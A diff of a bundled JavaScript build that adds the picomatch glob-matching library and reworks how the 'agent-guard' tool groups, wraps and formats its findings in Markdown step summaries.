+            if (index2 === 0) {
+              return qmarkNoDot + (rest ? QMARK.repeat(rest.length) : "");
+            }
+            return QMARK.repeat(chars.length);
+          }
+          if (first === ".") {
+            return DOT_LITERAL.repeat(chars.length);
+          }
+          if (first === "*") {
+            if (esc) {
+              return esc + first + (rest ? star : "");
+            }
+            return star;
+          }
+          return esc ? m : `\\${m}`;
+        });
+        if (backslashes === true) {
+          if (opts.unescape === true) {
+            output = output.replace(/\\/g, "");
+          } else {
+            output = output.replace(/\\+/g, (m) => {
+              return m.length % 2 === 0 ? "\\\\" : m ? "\\" : "";
+            });
+          }
+        }
+        if (output === input && opts.contains === true) {
+          state.output = input;
+          return state;
+        }
+        state.output = utils.wrapOutput(output, state, options);
+        return state;
+      }
+      while (!eos()) {
+        value = advance();
+        if (value === "\0") {
+          continue;
+        }
+        if (value === "\\") {
+          const next = peek();
+          if (next === "/" && opts.bash !== true) {
+            continue;
+          }
+          if (next === "." || next === ";") {
+            continue;
+          }
+          if (!next) {
+            value += "\\";
+            push({ type: "text", value });
+            continue;
+          }
+          const match = /^\\+/.exec(remaining());
+          let slashes = 0;
+          if (match && match[0].length > 2) {
+            slashes = match[0].length;
+            state.index += slashes;
+            if (slashes % 2 !== 0) {
+              value += "\\";
+            }
+          }
+          if (opts.unescape === true) {
+            value = advance();
+          } else {
+            value += advance();
+          }
+          if (state.brackets === 0) {
+            push({ type: "text", value });
+            continue;
+          }
+        }
+        if (state.brackets > 0 && (value !== "]" || prev.value === "[" || prev.value === "[^")) {
+          if (opts.posix !== false && value === ":") {
+            const inner = prev.value.slice(1);
+            if (inner.includes("[")) {
+              prev.posix = true;
+              if (inner.includes(":")) {
+                const idx = prev.value.lastIndexOf("[");
+                const pre = prev.value.slice(0, idx);
+                const rest2 = prev.value.slice(idx + 2);
+                const posix = POSIX_REGEX_SOURCE[rest2];
+                if (posix) {
+                  prev.value = pre + posix;
+                  state.backtrack = true;
+                  advance();
+                  if (!bos.output && tokens.indexOf(prev) === 1) {
+                    bos.output = ONE_CHAR;
+                  }
+                  continue;
+                }
+              }
+            }
+          }
+          if (value === "[" && peek() !== ":" || value === "-" && peek() === "]") {
+            value = `\\${value}`;
+          }
+          if (value === "]" && (prev.value === "[" || prev.value === "[^")) {
+            value = `\\${value}`;
+          }
+          if (opts.posix === true && value === "!" && prev.value === "[") {
+            value = "^";
+          }
+          prev.value += value;
+          append({ value });
+          continue;
+        }
+        if (state.quotes === 1 && value !== '"') {
+          value = utils.escapeRegex(value);
+          prev.value += value;
+          append({ value });
+          continue;
+        }
+        if (value === '"') {
+          state.quotes = state.quotes === 1 ? 0 : 1;
+          if (opts.keepQuotes === true) {
+            push({ type: "text", value });
+          }
+          continue;
+        }
+        if (value === "(") {
+          increment("parens");
+          push({ type: "paren", value });
+          continue;
+        }
+        if (value === ")") {
+          if (state.parens === 0 && opts.strictBrackets === true) {
+            throw new SyntaxError(syntaxError("opening", "("));
+          }
+          const extglob = extglobs[extglobs.length - 1];
+          if (extglob && state.parens === extglob.parens + 1) {
+            extglobClose(extglobs.pop());
+            continue;
+          }
+          push({ type: "paren", value, output: state.parens ? ")" : "\\)" });
+          decrement("parens");
+          continue;
+        }
+        if (value === "[") {
+          if (opts.nobracket === true || !remaining().includes("]")) {
+            if (opts.nobracket !== true && opts.strictBrackets === true) {
+              throw new SyntaxError(syntaxError("closing", "]"));
+            }
+            value = `\\${value}`;
+          } else {
+            increment("brackets");
+          }
+          push({ type: "bracket", value });
+          continue;
+        }
+        if (value === "]") {
+          if (opts.nobracket === true || prev && prev.type === "bracket" && prev.value.length === 1) {
+            push({ type: "text", value, output: `\\${value}` });
+            continue;
+          }
+          if (state.brackets === 0) {
+            if (opts.strictBrackets === true) {
+              throw new SyntaxError(syntaxError("opening", "["));
+            }
+            push({ type: "text", value, output: `\\${value}` });
+            continue;
+          }
+          decrement("brackets");
+          const prevValue = prev.value.slice(1);
+          if (prev.posix !== true && prevValue[0] === "^" && !prevValue.includes("/")) {
+            value = `/${value}`;
+          }
+          prev.value += value;
+          append({ value });
+          if (opts.literalBrackets === false || utils.hasRegexChars(prevValue)) {
+            continue;
+          }
+          const escaped = utils.escapeRegex(prev.value);
+          state.output = state.output.slice(0, -prev.value.length);
+          if (opts.literalBrackets === true) {
+            state.output += escaped;
+            prev.value = escaped;
+            continue;
+          }
+          prev.value = `(${capture}${escaped}|${prev.value})`;
+          state.output += prev.value;
+          continue;
+        }
+        if (value === "{" && opts.nobrace !== true) {
+          increment("braces");
+          const open = {
+            type: "brace",
+            value,
+            output: "(",
+            outputIndex: state.output.length,
+            tokensIndex: state.tokens.length
+          };
+          braces.push(open);
+          push(open);
+          continue;
+        }
+        if (value === "}") {
+          const brace = braces[braces.length - 1];
+          if (opts.nobrace === true || !brace) {
+            push({ type: "text", value, output: value });
+            continue;
+          }
+          let output = ")";
+          if (brace.dots === true) {
+            const arr = tokens.slice();
+            const range = [];
+            for (let i = arr.length - 1; i >= 0; i--) {
+              tokens.pop();
+              if (arr[i].type === "brace") {
+                break;
+              }
+              if (arr[i].type !== "dots") {
+                range.unshift(arr[i].value);
+              }
+            }
+            output = expandRange(range, opts);
+            state.backtrack = true;
+          }
+          if (brace.comma !== true && brace.dots !== true) {
+            const out = state.output.slice(0, brace.outputIndex);
+            const toks = state.tokens.slice(brace.tokensIndex);
+            brace.value = brace.output = "\\{";
+            value = output = "\\}";
+            state.output = out;
+            for (const t of toks) {
+              state.output += t.output || t.value;
+            }
+          }
+          push({ type: "brace", value, output });
+          decrement("braces");
+          braces.pop();
+          continue;
+        }
+        if (value === "|") {
+          if (extglobs.length > 0) {
+            extglobs[extglobs.length - 1].conditions++;
+          }
+          push({ type: "text", value });
+          continue;
+        }
+        if (value === ",") {
+          let output = value;
+          const brace = braces[braces.length - 1];
+          if (brace && stack[stack.length - 1] === "braces") {
+            brace.comma = true;
+            output = "|";
+          }
+          push({ type: "comma", value, output });
+          continue;
+        }
+        if (value === "/") {
+          if (prev.type === "dot" && state.index === state.start + 1) {
+            state.start = state.index + 1;
+            state.consumed = "";
+            state.output = "";
+            tokens.pop();
+            prev = bos;
+            continue;
+          }
+          push({ type: "slash", value, output: SLASH_LITERAL });
+          continue;
+        }
+        if (value === ".") {
+          if (state.braces > 0 && prev.type === "dot") {
+            if (prev.value === ".") prev.output = DOT_LITERAL;
+            const brace = braces[braces.length - 1];
+            prev.type = "dots";
+            prev.output += value;
+            prev.value += value;
+            brace.dots = true;
+            continue;
+          }
+          if (state.braces + state.parens === 0 && prev.type !== "bos" && prev.type !== "slash") {
+            push({ type: "text", value, output: DOT_LITERAL });
+            continue;
+          }
+          push({ type: "dot", value, output: DOT_LITERAL });
+          continue;
+        }
+        if (value === "?") {
+          const isGroup = prev && prev.value === "(";
+          if (!isGroup && opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+            extglobOpen("qmark", value);
+            continue;
+          }
+          if (prev && prev.type === "paren") {
+            const next = peek();
+            let output = value;
+            if (prev.value === "(" && !/[!=<:]/.test(next) || next === "<" && !/<([!=]|\w+>)/.test(remaining())) {
+              output = `\\${value}`;
+            }
+            push({ type: "text", value, output });
+            continue;
+          }
+          if (opts.dot !== true && (prev.type === "slash" || prev.type === "bos")) {
+            push({ type: "qmark", value, output: QMARK_NO_DOT });
+            continue;
+          }
+          push({ type: "qmark", value, output: QMARK });
+          continue;
+        }
+        if (value === "!") {
+          if (opts.noextglob !== true && peek() === "(") {
+            if (peek(2) !== "?" || !/[!=<:]/.test(peek(3))) {
+              extglobOpen("negate", value);
+              continue;
+            }
+          }
+          if (opts.nonegate !== true && state.index === 0) {
+            negate();
+            continue;
+          }
+        }
+        if (value === "+") {
+          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+            extglobOpen("plus", value);
+            continue;
+          }
+          if (prev && prev.value === "(" || opts.regex === false) {
+            push({ type: "plus", value, output: PLUS_LITERAL });
+            continue;
+          }
+          if (prev && (prev.type === "bracket" || prev.type === "paren" || prev.type === "brace") || state.parens > 0) {
+            push({ type: "plus", value });
+            continue;
+          }
+          push({ type: "plus", value: PLUS_LITERAL });
+          continue;
+        }
+        if (value === "@") {
+          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+            push({ type: "at", extglob: true, value, output: "" });
+            continue;
+          }
+          push({ type: "text", value });
+          continue;
+        }
+        if (value !== "*") {
+          if (value === "$" || value === "^") {
+            value = `\\${value}`;
+          }
+          const match = REGEX_NON_SPECIAL_CHARS.exec(remaining());
+          if (match) {
+            value += match[0];
+            state.index += match[0].length;
+          }
+          push({ type: "text", value });
+          continue;
+        }
+        if (prev && (prev.type === "globstar" || prev.star === true)) {
+          prev.type = "star";
+          prev.star = true;
+          prev.value += value;
+          prev.output = star;
+          state.backtrack = true;
+          state.globstar = true;
+          consume(value);
+          continue;
+        }
+        let rest = remaining();
+        if (opts.noextglob !== true && /^\([^?]/.test(rest)) {
+          extglobOpen("star", value);
+          continue;
+        }
+        if (prev.type === "star") {
+          if (opts.noglobstar === true) {
+            consume(value);
+            continue;
+          }
+          const prior = prev.prev;
+          const before = prior.prev;
+          const isStart = prior.type === "slash" || prior.type === "bos";
+          const afterStar = before && (before.type === "star" || before.type === "globstar");
+          if (opts.bash === true && (!isStart || rest[0] && rest[0] !== "/")) {
+            push({ type: "star", value, output: "" });
+            continue;
+          }
+          const isBrace = state.braces > 0 && (prior.type === "comma" || prior.type === "brace");
+          const isExtglob = extglobs.length && (prior.type === "pipe" || prior.type === "paren");
+          if (!isStart && prior.type !== "paren" && !isBrace && !isExtglob) {
+            push({ type: "star", value, output: "" });
+            continue;
+          }
+          while (rest.slice(0, 3) === "/**") {
+            const after = input[state.index + 4];
+            if (after && after !== "/") {
+              break;
+            }
+            rest = rest.slice(3);
+            consume("/**", 3);
+          }
+          const isEnd = eos() || state.parens > 0 && rest === ")".repeat(state.parens) && !extglobs.some((extglob) => extglob.type === "negate");
+          if (prior.type === "bos" && eos()) {
+            prev.type = "globstar";
+            prev.value += value;
+            prev.output = globstar(opts);
+            state.output = prev.output;
+            state.globstar = true;
+            consume(value);
+            continue;
+          }
+          if (prior.type === "slash" && prior.prev.type !== "bos" && !afterStar && isEnd) {
+            state.output = state.output.slice(0, -(prior.output + prev.output).length);
+            prior.output = `(?:${prior.output}`;
+            prev.type = "globstar";
+            prev.output = globstar(opts) + (opts.strictSlashes ? ")" : "|$)");
+            prev.value += value;
+            state.globstar = true;
+            state.output += prior.output + prev.output;
+            consume(value);
+            continue;
+          }
+          if (prior.type === "slash" && prior.prev.type !== "bos" && rest[0] === "/") {
+            const end = rest[1] !== void 0 ? "|$" : "";
+            state.output = state.output.slice(0, -(prior.output + prev.output).length);
+            prior.output = `(?:${prior.output}`;
+            prev.type = "globstar";
+            prev.output = `${globstar(opts)}${SLASH_LITERAL}|${SLASH_LITERAL}${end})`;
+            prev.value += value;
+            state.output += prior.output + prev.output;
+            state.globstar = true;
+            consume(value + advance());
+            push({ type: "slash", value: "/", output: "" });
+            continue;
+          }
+          if (prior.type === "bos" && rest[0] === "/") {
+            prev.type = "globstar";
+            prev.value += value;
+            prev.output = `(?:^|${SLASH_LITERAL}|${globstar(opts)}${SLASH_LITERAL})`;
+            state.output = prev.output;
+            state.globstar = true;
+            consume(value + advance());
+            push({ type: "slash", value: "/", output: "" });
+            continue;
+          }
+          state.output = state.output.slice(0, -prev.output.length);
+          prev.type = "globstar";
+          prev.output = globstar(opts);
+          prev.value += value;
+          state.output += prev.output;
+          state.globstar = true;
+          consume(value);
+          continue;
+        }
+        const token = { type: "star", value, output: star };
+        if (opts.bash === true) {
+          token.output = ".*?";
+          if (prev.type === "bos" || prev.type === "slash") {
+            token.output = nodot + token.output;
+          }
+          push(token);
+          continue;
+        }
+        if (prev && (prev.type === "bracket" || prev.type === "paren") && opts.regex === true) {
+          token.output = value;
+          push(token);
+          continue;
+        }
+        if (state.index === state.start || prev.type === "slash" || prev.type === "dot") {
+          if (prev.type === "dot") {
+            state.output += NO_DOT_SLASH;
+            prev.output += NO_DOT_SLASH;
+          } else if (opts.dot === true) {
+            state.output += NO_DOTS_SLASH;
+            prev.output += NO_DOTS_SLASH;
+          } else {
+            state.output += nodot;
+            prev.output += nodot;
+          }
+          if (peek() !== "*") {
+            state.output += ONE_CHAR;
+            prev.output += ONE_CHAR;
+          }
+        }
+        push(token);
+      }
+      while (state.brackets > 0) {
+        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "]"));
+        state.output = utils.escapeLast(state.output, "[");
+        decrement("brackets");
+      }
+      while (state.parens > 0) {
+        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", ")"));
+        state.output = utils.escapeLast(state.output, "(");
+        decrement("parens");
+      }
+      while (state.braces > 0) {
+        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "}"));
+        state.output = utils.escapeLast(state.output, "{");
+        decrement("braces");
+      }
+      if (opts.strictSlashes !== true && (prev.type === "star" || prev.type === "bracket")) {
+        push({ type: "maybe_slash", value: "", output: `${SLASH_LITERAL}?` });
+      }
+      if (state.backtrack === true) {
+        state.output = "";
+        for (const token of state.tokens) {
+          state.output += token.output != null ? token.output : token.value;
+          if (token.suffix) {
+            state.output += token.suffix;
+          }
+        }
+      }
+      return state;
+    };
+    parse4.fastpaths = (input, options) => {
+      const opts = { ...options };
+      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
+      const len = input.length;
+      if (len > max) {
+        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
+      }
+      input = REPLACEMENTS[input] || input;
+      const {
+        DOT_LITERAL,
+        SLASH_LITERAL,
+        ONE_CHAR,
+        DOTS_SLASH,
+        NO_DOT,
+        NO_DOTS,
+        NO_DOTS_SLASH,
+        STAR,
+        START_ANCHOR
+      } = constants.globChars(opts.windows);
+      const nodot = opts.dot ? NO_DOTS : NO_DOT;
+      const slashDot = opts.dot ? NO_DOTS_SLASH : NO_DOT;
+      const capture = opts.capture ? "" : "?:";
+      const state = { negated: false, prefix: "" };
+      let star = opts.bash === true ? ".*?" : STAR;
+      if (opts.capture) {
+        star = `(${star})`;
+      }
+      const globstar = (opts2) => {
+        if (opts2.noglobstar === true) return star;
+        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
+      };
+      const create = (str5) => {
+        switch (str5) {
+          case "*":
+            return `${nodot}${ONE_CHAR}${star}`;
+          case ".*":
+            return `${DOT_LITERAL}${ONE_CHAR}${star}`;
+          case "*.*":
+            return `${nodot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
+          case "*/*":
+            return `${nodot}${star}${SLASH_LITERAL}${ONE_CHAR}${slashDot}${star}`;
+          case "**":
+            return nodot + globstar(opts);
+          case "**/*":
+            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${ONE_CHAR}${star}`;
+          case "**/*.*":
+            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
+          case "**/.*":
+            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${DOT_LITERAL}${ONE_CHAR}${star}`;
+          default: {
+            const match = /^(.*?)\.(\w+)$/.exec(str5);
+            if (!match) return;
+            const source2 = create(match[1]);
+            if (!source2) return;
+            return source2 + DOT_LITERAL + match[2];
+          }
+        }
+      };
+      const output = utils.removePrefix(input, state);
+      let source = create(output);
+      if (source && opts.strictSlashes !== true) {
+        source += `${SLASH_LITERAL}?`;
+      }
+      return source;
+    };
+    module2.exports = parse4;
+  }
+});
+
+// node_modules/picomatch/lib/picomatch.js
+var require_picomatch = __commonJS({
+  "node_modules/picomatch/lib/picomatch.js"(exports2, module2) {
+    "use strict";
+    var scan = require_scan();
+    var parse4 = require_parse();
+    var utils = require_utils();
+    var constants = require_constants();
+    var isObject2 = (val) => val && typeof val === "object" && !Array.isArray(val);
+    var picomatch2 = (glob, options, returnState = false) => {
+      if (Array.isArray(glob)) {
+        const fns = glob.map((input) => picomatch2(input, options, returnState));
+        const arrayMatcher = (str5) => {
+          for (const isMatch of fns) {
+            const state2 = isMatch(str5);
+            if (state2) return state2;
+          }
+          return false;
+        };
+        return arrayMatcher;
+      }
+      const isState = isObject2(glob) && glob.tokens && glob.input;
+      if (glob === "" || typeof glob !== "string" && !isState) {
+        throw new TypeError("Expected pattern to be a non-empty string");
+      }
+      const opts = options || {};
+      const posix = opts.windows;
+      const regex = isState ? picomatch2.compileRe(glob, options) : picomatch2.makeRe(glob, options, false, true);
+      const state = regex.state;
+      delete regex.state;
+      let isIgnored = () => false;
+      if (opts.ignore) {
+        const ignoreOpts = { ...options, ignore: null, onMatch: null, onResult: null };
+        isIgnored = picomatch2(opts.ignore, ignoreOpts, returnState);
+      }
+      const matcher = (input, returnObject = false) => {
+        const { isMatch, match, output } = picomatch2.test(input, regex, options, { glob, posix });
+        const result = { glob, state, regex, posix, input, output, match, isMatch };
+        if (typeof opts.onResult === "function") {
+          opts.onResult(result);
+        }
+        if (isMatch === false) {
+          result.isMatch = false;
+          return returnObject ? result : false;
+        }
+        if (isIgnored(input)) {
+          if (typeof opts.onIgnore === "function") {
+            opts.onIgnore(result);
+          }
+          result.isMatch = false;
+          return returnObject ? result : false;
+        }
+        if (typeof opts.onMatch === "function") {
+          opts.onMatch(result);
+        }
+        return returnObject ? result : true;
+      };
+      if (returnState) {
+        matcher.state = state;
+      }
+      return matcher;
+    };
+    picomatch2.test = (input, regex, options, { glob, posix } = {}) => {
+      if (typeof input !== "string") {
+        throw new TypeError("Expected input to be a string");
+      }
+      if (input === "") {
+        return { isMatch: false, output: "" };
+      }
+      const opts = options || {};
+      const format = opts.format || (posix ? utils.toPosixSlashes : null);
+      let match = input === glob;
+      let output = match && format ? format(input) : input;
+      if (match === false) {
+        output = format ? format(input) : input;
+        match = output === glob;
+      }
+      if (match === false || opts.capture === true) {
+        if (opts.matchBase === true || opts.basename === true) {
+          match = picomatch2.matchBase(input, regex, options, posix);
+        } else {
+          match = regex.exec(output);
+        }
+      }
+      return { isMatch: Boolean(match), match, output };
+    };
+    picomatch2.matchBase = (input, glob, options, posix = options && options.windows) => {
+      const regex = glob instanceof RegExp ? glob : picomatch2.makeRe(glob, options);
+      return regex.test(utils.basename(input, { windows: posix }));
+    };
+    picomatch2.isMatch = (str5, patterns, options) => picomatch2(patterns, options)(str5);
+    picomatch2.parse = (pattern, options) => {
+      if (Array.isArray(pattern)) return pattern.map((p) => picomatch2.parse(p, options));
+      return parse4(pattern, { ...options, fastpaths: false });
+    };
+    picomatch2.scan = (input, options) => scan(input, options);
+    picomatch2.compileRe = (state, options, returnOutput = false, returnState = false) => {
+      if (returnOutput === true) {
+        return state.output;
+      }
+      const opts = options || {};
+      const prepend = opts.contains ? "" : "^";
+      const append = opts.contains ? "" : "$";
+      let source = `${prepend}(?:${state.output})${append}`;
+      if (state && state.negated === true) {
+        source = `^(?!${source}).*$`;
+      }
+      const regex = picomatch2.toRegex(source, options);
+      if (returnState === true) {
+        regex.state = state;
+      }
+      return regex;
+    };
+    picomatch2.makeRe = (input, options = {}, returnOutput = false, returnState = false) => {
+      if (!input || typeof input !== "string") {
+        throw new TypeError("Expected a non-empty string");
+      }
+      let parsed = { negated: false, fastpaths: true };
+      if (options.fastpaths !== false && (input[0] === "." || input[0] === "*")) {
+        parsed.output = parse4.fastpaths(input, options);
+      }
+      if (!parsed.output) {
+        parsed = parse4(input, options);
+      }
+      return picomatch2.compileRe(parsed, options, returnOutput, returnState);
+    };
+    picomatch2.toRegex = (source, options) => {
+      try {
+        const opts = options || {};
+        return new RegExp(source, opts.flags || (opts.nocase ? "i" : ""));
+      } catch (err) {
+        if (options && options.debug === true) throw err;
+        return /$^/;
+      }
+    };
+    picomatch2.constants = constants;
+    module2.exports = picomatch2;
+  }
+});
+
+// node_modules/picomatch/index.js
+var require_picomatch2 = __commonJS({
+  "node_modules/picomatch/index.js"(exports2, module2) {
+    "use strict";
+    var pico = require_picomatch();
+    var utils = require_utils();
+    function picomatch2(glob, options, returnState = false) {
+      if (options && (options.windows === null || options.windows === void 0)) {
+        options = { ...options, windows: utils.isWindows() };
+      }
+      return pico(glob, options, returnState);
+    }
+    Object.assign(picomatch2, pico);
+    module2.exports = picomatch2;
+  }
+});
+
 // src/report/common.ts
 function cmpStr(a, b) {
   return a < b ? -1 : a > b ? 1 : 0;
@@ -7428,15 +9204,15 @@ function countLine(result) {
   const head = n === 0 ? "no findings" : `${plural(n, "finding")} (${severityBreakdown(counts)})`;
   let line = `${head} in ${plural(result.stats.files, "file")}`;
   const bad = errorFileCount(result.errors);
-  if (bad > 0) line += `, ${plural(bad, "file")} could not be read`;
+  if (bad > 0) line += `, errors in ${plural(bad, "file")}`;
   return line;
 }
 function repoPath(file, root) {
   let f = file;
   if (root !== void 0) {
     let rel;
-    if (path.isAbsolute(f)) rel = path.relative(path.resolve(root), f);
-    else if (/^[A-Za-z]:[\\/]/.test(f) && /^[A-Za-z]:[\\/]/.test(root)) rel = path.win32.relative(root, f);
+    if (path3.isAbsolute(f)) rel = path3.relative(path3.resolve(root), f);
+    else if (/^[A-Za-z]:[\\/]/.test(f) && /^[A-Za-z]:[\\/]/.test(root)) rel = path3.win32.relative(root, f);
     if (rel) f = rel;
   }
   f = f.replace(/\\/g, "/");
@@ -7457,7 +9233,7 @@ function splitLines(text) {
 function wrap(text, width) {
   const out = [];
   for (const para of text.split("\n")) {
-    const words = para.split(/[ \t]+/).filter((w) => w !== "");
+    const words = unbreakable(para.split(/[ \t]+/).filter((w) => w !== ""));
     if (words.length === 0) {
       out.push("");
       continue;
@@ -7476,11 +9252,74 @@ function wrap(text, width) {
   while (out.length > 1 && out[out.length - 1] === "") out.pop();
   return out;
 }
-var path, TOOL_NAME, TOOL_URI, UNSAFE_RE;
+function unbreakable(words) {
+  const out = [];
+  let open = false;
+  for (const w of words) {
+    if (open) out[out.length - 1] += ` ${w}`;
+    else out.push(w);
+    if ((w.match(/`/g)?.length ?? 0) % 2 === 1) open = !open;
+  }
+  return out;
+}
+function groupByStep(sorted) {
+  const groups = /* @__PURE__ */ new Map();
+  for (const f of sorted) {
+    const key2 = [f.file, f.job ?? "", f.step ?? ""].join("\0");
+    const group = groups.get(key2);
+    if (group) group.push(f);
+    else groups.set(key2, [f]);
+  }
+  return [...groups.values()];
+}
+function holdsLabel(f) {
+  return f.holder === "step" ? "step holds" : "agent holds";
+}
+function capitalised(s) {
+  return s ? `${s[0].toUpperCase()}${s.slice(1)}` : s;
+}
+function holdingKey(f) {
+  return `${holdsLabel(f)}\0${f.capabilities.join("\0")}`;
+}
+function fixesOf(group) {
+  const byFix = /* @__PURE__ */ new Map();
+  for (const f of group) {
+    const fix = f.fix.trim();
+    if (fix === "") continue;
+    const rules = byFix.get(fix) ?? [];
+    if (!rules.includes(f.rule)) rules.push(f.rule);
+    byFix.set(fix, rules);
+  }
+  const fixes = [...byFix];
+  if (fixes.length === 1) return [[null, fixes[0][0]]];
+  const sentenced = fixes.map(([fix, rules]) => ({ rules, sentences: sentences(fix) }));
+  const everywhere = sentenced[0].sentences.filter((s) => sentenced.every((f) => f.sentences.includes(s)));
+  const out = [];
+  if (everywhere.length) out.push([null, everywhere.join(" ")]);
+  for (const f of sentenced) {
+    const own = f.sentences.filter((s) => !everywhere.includes(s));
+    if (own.length) out.push([f.rules, own.join(" ")]);
+  }
+  return out;
+}
+function sentences(text) {
+  const out = [];
+  let current = [];
+  for (const word of unbreakable(text.split(/\s+/).filter((w) => w !== ""))) {
+    current.push(word);
+    if (/[.!?]`?\)?$/.test(word) && !/(^|\()(e\.g|i\.e)\.$/.test(word)) {
+      out.push(current.join(" "));
+      current = [];
+    }
+  }
+  if (current.length) out.push(current.join(" "));
+  return out;
+}
+var path3, TOOL_NAME, TOOL_URI, UNSAFE_RE;
 var init_common = __esm({
   "src/report/common.ts"() {
     "use strict";
-    path = __toESM(require("path"));
+    path3 = __toESM(require("path"));
     init_types();
     TOOL_NAME = "agent-guard";
     TOOL_URI = "https://github.com/agent-guard/agent-guard";
@@ -7509,6 +9348,9 @@ function md(s, breaks = false) {
 }
 function code(s) {
   return `<code>${md(s)}</code>`;
+}
+function mdWithCode(s, breaks = false) {
+  return s.split(/(`[^`\n]+`)/).map((part, i) => i % 2 === 1 ? code(part.slice(1, -1)) : md(part, breaks)).join("");
 }
 function docsLink(url) {
   if (!/^https?:\/\/[^\s<>"]+$/.test(url)) return "";
@@ -7547,13 +9389,13 @@ function formatStepSummary(result, opts = {}) {
     body.push("### Findings", "");
     budget -= bytes("### Findings\n\n");
     let shown2 = 0;
-    for (const f of findings) {
-      const block = findingBlock(f).join("\n");
-      const size = bytes(block) + 1;
-      if (size > budget) break;
-      body.push(block);
-      budget -= size;
-      shown2++;
+    for (const group of groupByStep(findings)) {
+      const block = groupBlock(group, budget);
+      if (!block) break;
+      body.push(block.text);
+      budget -= bytes(block.text) + 1;
+      shown2 += block.shown;
+      if (block.shown < group.length) break;
     }
     if (shown2 < findings.length) {
       const more = findings.length - shown2;
@@ -7592,30 +9434,70 @@ function ruleTable(findings, rules) {
   }
   return out;
 }
-function findingBlock(f) {
-  const firstLine = clip(f.message.trim().split("\n")[0] ?? "", MAX_SUMMARY_LINE);
-  const out = [
-    "<details>",
-    `<summary><strong>${f.severity}</strong> <code>${html(f.rule)}</code> <code>${html(`${f.file}:${f.line}`)}</code> ${html(firstLine)}</summary>`,
-    ""
-  ];
-  const where = [`${code(`${f.file}:${f.line}:${f.column}`)}`];
-  if (f.job !== void 0) where.push(`job ${code(f.job)}`);
-  if (f.step !== void 0) where.push(`step ${code(f.step)}`);
-  out.push(`**Where:** ${where.join(", ")} (confidence: ${f.confidence})`, "");
-  out.push(`**Message:** ${md(clip(f.message.trim(), MAX_MESSAGE), true)}`, "");
-  if (f.path.length > 0) {
-    const hops = f.path.slice(0, MAX_HOPS).map((h) => `${code(`${h.file}:${h.line}:${h.column}`)} ${md(clip(h.note, MAX_NOTE))}`);
-    if (f.path.length > MAX_HOPS) hops.push(`\u2026 ${f.path.length - MAX_HOPS} more`);
-    out.push(`**Path:** ${hops.join(" \u2192 ")}`, "");
+function groupBlock(group, budget) {
+  const first = group[0];
+  const where = [`${code(`${first.file}:${first.line}:${first.column}`)}`];
+  if (first.job !== void 0) where.push(`job ${code(first.job)}`);
+  if (first.step !== void 0) where.push(`step ${code(first.step)}`);
+  const holdings = new Set(group.map(holdingKey));
+  const tail = [];
+  if (holdings.size === 1) tail.push(...holdingLines(first));
+  for (const [rules2, fix] of fixesOf(group)) {
+    const label = rules2 ? `**Fix** (${rules2.map((r) => code(r)).join(", ")}):` : "**Fix:**";
+    tail.push(`${label} ${mdWithCode(clip(fix, MAX_FIX), true)}`, "");
   }
-  if (f.capabilities.length > 0) out.push(`**Agent holds:** ${f.capabilities.map((c) => code(c)).join(", ")}`, "");
-  if (f.fix.trim() !== "") out.push(`**Fix:** ${md(clip(f.fix.trim(), MAX_FIX), true)}`, "");
-  out.push("</details>", "");
-  return out;
+  tail.push("</details>", "");
+  if (group.length === 1) {
+    const f = first;
+    const lines = [summaryLine(f.severity, `<code>${html(f.rule)}</code> <code>${html(`${f.file}:${f.line}`)}</code> ${html(firstLineOf(f))}`), ""];
+    lines.push(`**Where:** ${where.join(", ")} (confidence: ${f.confidence})`, "");
+    lines.push(`**Message:** ${mdWithCode(clip(f.message.trim(), MAX_MESSAGE), true)}`, "");
+    if (f.path.length > 0) lines.push(`**Path:** ${pathText(f)}`, "");
+    const text = [...lines, ...tail].join("\n");
+    return bytes(text) + 1 <= budget ? { text, shown: 1 } : void 0;
+  }
+  const rules = [...new Set(group.map((f) => f.rule))].map((r) => `<code>${html(r)}</code>`).join(", ");
+  const stepName = first.step !== void 0 ? ` in step <code>${html(first.step)}</code>` : "";
+  const head = [summaryLine(first.severity, `${group.length} findings${stepName} <code>${html(`${first.file}:${first.line}`)}</code> ${rules}`), ""];
+  head.push(`**Where:** ${where.join(", ")}`, "");
+  const fixed = bytes([...head, ...tail].join("\n")) + 2;
+  let left = budget - fixed;
+  const entries = [];
+  let shown2 = 0;
+  for (const f of group) {
+    const entry = [
+      `**${f.severity}** ${code(f.rule)} ${code(`${f.file}:${f.line}:${f.column}`)} ${mdWithCode(clip(f.message.trim(), MAX_MESSAGE), true)}` + (f.confidence !== "high" ? ` (confidence: ${f.confidence})` : ""),
+      ""
+    ];
+    if (f.path.length > 0) entry.push(`**Path:** ${pathText(f)}`, "");
+    if (holdings.size > 1) entry.push(...holdingLines(f));
+    const size = bytes(entry.join("\n")) + 1;
+    if (size > left) break;
+    entries.push(...entry);
+    left -= size;
+    shown2++;
+  }
+  if (shown2 === 0) return void 0;
+  return { text: [...head, ...entries, ...tail].join("\n"), shown: shown2 };
+}
+function summaryLine(severity, rest) {
+  return `<details>
+<summary><strong>${severity}</strong> ${rest}</summary>`;
+}
+function firstLineOf(f) {
+  return clip(f.message.trim().split("\n")[0] ?? "", MAX_SUMMARY_LINE);
+}
+function pathText(f) {
+  const hops = f.path.slice(0, MAX_HOPS).map((h) => `${code(`${h.file}:${h.line}:${h.column}`)} ${md(clip(h.note, MAX_NOTE))}`);
+  if (f.path.length > MAX_HOPS) hops.push(`\u2026 ${f.path.length - MAX_HOPS} more`);
+  return hops.join(" \u2192 ");
+}
+function holdingLines(f) {
+  if (f.capabilities.length === 0) return [];
+  return [`**${capitalised(holdsLabel(f))}:** ${f.capabilities.map((c) => code(c)).join(", ")}`, ""];
 }
 function errorSection(errors, budget) {
